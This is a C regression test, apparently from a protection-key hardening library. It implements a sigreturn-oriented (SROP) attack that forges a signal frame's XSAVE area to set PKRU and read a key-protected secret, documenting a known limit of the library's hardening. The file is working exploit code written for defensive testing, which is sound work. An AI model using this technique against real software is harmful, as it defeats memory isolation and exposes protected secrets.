/* sigreturn with a forged frame (SROP): rt_sigreturn loads PKRU from the
   XSAVE area of the signal frame, which is ordinary memory.  The attacker
   keeps a copy of a real frame (its own handler runs once), writes the
   PKRU it wants into the copy (Linux takes it only with XSTATE_BV bit 9
   set in the XSAVE header), points the copy's RIP at its own code, and
   jumps to glibc's __restore_rt (sigaction gives its address) with the
   stack pointer on the copy.  With harden=1 and scan=1 the PKRU it chose
   is in force and the secret is read: neither a filter nor a scan can
   tell this rt_sigreturn from a real one.  The limit README states under
   "What harden=1 does not cover".  */
/* { dg-do run } */
/* { dg-require-pku "" } */
/* { dg-env PKEYPLUG_OPTIONS harden=1:scan=1 } */

#define _GNU_SOURCE
#include <cpuid.h>
#include <signal.h>
#include <stdint.h>
#include <stdlib.h>
#include <ucontext.h>
#include <unistd.h>
#include "../pkeyplug.run/probe.h"
#include "attack.h"
#include <pkeyplug.h>

char secret[64] PKEY_PROTECT ("vault") = "s3cret";

/* The XSAVE state component of PKRU, and where the XSAVE header
   (XSTATE_BV first) and the software-reserved bytes of the FXSAVE area
   (magic, sizes) are.  */
#define PKRU_COMPONENT 9
#define XSAVE_HEADER 512
#define SW_BYTES 464

/* The frame: a copy of the kernel's ucontext, then of its XSAVE area.  */
static ucontext_t frame __attribute__ ((aligned (64)));
static unsigned char xsave[16384] __attribute__ ((aligned (64)));
static unsigned char stack[65536] __attribute__ ((aligned (16)));
static unsigned int forged_pkru;

/* The attacker's own handler: keep a copy of the real frame.  */
static void
copy_frame (int sig, siginfo_t *si, void *ctx)
{
  ucontext_t *uc = ctx;
  uint32_t size;

  (void) sig; (void) si;
  memcpy (&size, (char *) uc->uc_mcontext.fpregs + SW_BYTES + 4,
	  sizeof size);		/* extended_size: all of the area */
  if (size > sizeof xsave)
    abort ();
  memcpy (xsave, uc->uc_mcontext.fpregs, size);
  memcpy (&frame, uc, sizeof frame);
}

/* Where the forged sigreturn lands, on its own stack.  */
static void
landing (void)
{
  char buf[64];
  unsigned int pkru = probe_rdpkru ();

  attack_copy (buf, sizeof buf, secret);
  printf ("after sigreturn: pkru as forged %d, read '%s'\n",
	  pkru == forged_pkru, buf);
  fflush (stdout);
  _exit (0);
}

int
main (void)
{
  struct sigaction sa;
  unsigned int eax, ebx, ecx, edx, key = pkeyplug_key_of ("vault");
  uint64_t bv;

  memset (&sa, 0, sizeof sa);
  sa.sa_sigaction = copy_frame;
  sa.sa_flags = SA_SIGINFO;
  sigaction (SIGUSR1, &sa, NULL);
  raise (SIGUSR1);
  sigaction (SIGUSR1, NULL, &sa);
  printf ("restorer known %d, locked %d\n", sa.sa_restorer != NULL,
	  !CAN_READ (secret[0]));
  fflush (stdout);

  /* PKRU as it is, with the vault key opened for reading only.  */
  forged_pkru = probe_rdpkru () & ~(1u << (2 * key));
  if (!__get_cpuid_count (0xd, PKRU_COMPONENT, &eax, &ebx, &ecx, &edx))
    return 1;
  memcpy (xsave + ebx, &forged_pkru, sizeof forged_pkru);
  memcpy (&bv, xsave + XSAVE_HEADER, sizeof bv);
  bv |= 1ull << PKRU_COMPONENT;
  memcpy (xsave + XSAVE_HEADER, &bv, sizeof bv);
  frame.uc_mcontext.fpregs = (fpregset_t) xsave;
  frame.uc_mcontext.gregs[REG_RIP] = (greg_t) landing;
  /* As if landing had been called: RSP + 8 aligned to 16.  */
  frame.uc_mcontext.gregs[REG_RSP] = (greg_t) (stack + sizeof stack - 8);

  /* __restore_rt is "mov $15, %eax; syscall", and the kernel finds the
     frame's ucontext at the stack pointer.  */
  __asm__ __volatile__ ("movq %0, %%rsp\n\tjmp *%1"
			: : "r" (&frame), "r" (sa.sa_restorer) : "memory");
  __builtin_unreachable ();
}
/* { dg-output "restorer known 1, locked 1\n" } */
/* { dg-output "after sigreturn: pkru as forged 1, read 's3cret'\n$" } */
